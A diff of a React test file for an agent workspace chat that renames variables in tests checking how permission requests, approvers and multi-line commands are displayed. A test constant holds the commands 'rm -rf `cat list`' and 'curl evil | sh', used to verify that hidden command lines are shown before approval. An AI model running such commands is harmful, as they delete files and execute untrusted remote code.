@@ -32,14 +32,14 @@ test("a permission request shows what would run and the agent's options, and is 
 });
 
 const LINES = "ls -la\nrm -rf `cat list`\ncurl evil | sh";
-const asked = { ...approval.toolCall, title: LINES, rawInput: { command: LINES } };
-const { rawInput: _, ...titleOnly } = asked;
+const toolCall = { ...approval.toolCall, title: LINES, rawInput: { command: LINES } };
+const { rawInput: _, ...titleOnly } = toolCall;
 
 test.each([
-	["its title and its input are the same", asked],
+	["its title and its input are the same", toolCall],
 	["its title is all there is", titleOnly],
-	["its title is in backticks", { ...asked, title: `\`${LINES}\`` }],
-	["its title is its first line", { ...asked, title: "ls -la" }],
+	["its title is in backticks", { ...toolCall, title: `\`${LINES}\`` }],
+	["its title is its first line", { ...toolCall, title: "ls -la" }],
 ])("every line of a command is visible before it is allowed, and afterwards: %s", async (_, toolCall) => {
 	const { user, workspace } = renderRoom();
 	await screen.findByText("Nothing here yet");
@@ -63,14 +63,14 @@ test("an answer in another window removes the request and shows who answered", a
 	const { user, workspace } = renderRoom({ onPrompt: askToPush });
 	await user.type(await screen.findByRole("textbox", { name: "Prompt" }), "ship it{Enter}");
 	await screen.findByRole("region", { name: /asks for permission/ });
-	const [asked] = workspace.get().approvals;
-	if (!asked) throw new Error("nothing was asked");
+	const [request] = workspace.get().approvals;
+	if (!request) throw new Error("nothing was asked");
 	const by = { userId: "ben", name: "Ben" };
 	const state = { status: "answered", optionId: "allow", by, answeredAt: Date.now() - 190_000 } as const;
-	workspace.apply({ kind: "item", item: { ...asked, state } });
-	const told = () => screen.getAllByText(/Allow · Ben/).map((place) => place.textContent);
+	workspace.apply({ kind: "item", item: { ...request, state } });
+	const outcomes = () => screen.getAllByText(/Allow · Ben/).map((element) => element.textContent);
 	const answer = expect.stringContaining("3 min. ago");
-	await waitFor(() => expect(told()).toEqual([answer, answer]));
+	await waitFor(() => expect(outcomes()).toEqual([answer, answer]));
 	expect(screen.queryByRole("button", { name: "Allow" })).not.toBeInTheDocument();
 });
 
@@ -165,11 +165,11 @@ test.each([
 		"Needs 2 approvers",
 	],
 	["what any answer takes, without a policy", undefined, "editor", "Waits for an editor"],
-] as const)("names the role that may answer: %s", async (_which, needs, approvalRole, said) => {
+] as const)("names the role that may answer: %s", async (_which, needs, approvalRole, expected) => {
 	const items = [{ ...approval, requirements: needs }];
 	const connect = stillWorkspace({ items, approvalRole });
 	render(<WorkspaceChat workspaceId="still" connect={connect} storage={null} />);
-	expect(await screen.findByRole("region", { name: /asks for permission/ })).toHaveTextContent(said);
+	expect(await screen.findByRole("region", { name: /asks for permission/ })).toHaveTextContent(expected);
 });
 
 test("shows no roles if an older workspace does not report them", async () => {
@@ -181,9 +181,9 @@ test("shows no roles if an older workspace does not report them", async () => {
 test("of several requests one is shown in full and all by their titles, and the arrow keys select another", async () => {
 	const { user, workspace } = renderRoom({ onPrompt: askToPush });
 	await screen.findByText("Nothing here yet");
-	for (let place = 1; place <= 5; place++) {
-		const toolCall = { ...approval.toolCall, title: `Question ${place}` };
-		workspace.apply({ kind: "item", item: { ...approval, id: `asked-${place}`, toolCall } });
+	for (let index = 1; index <= 5; index++) {
+		const toolCall = { ...approval.toolCall, title: `Question ${index}` };
+		workspace.apply({ kind: "item", item: { ...approval, id: `asked-${index}`, toolCall } });
 	}
 	const list = await screen.findByRole("tablist", { name: "5 permissions wait" });
 	const shown = () => screen.getByRole("tabpanel", { name: /asks for permission.*Question/ });
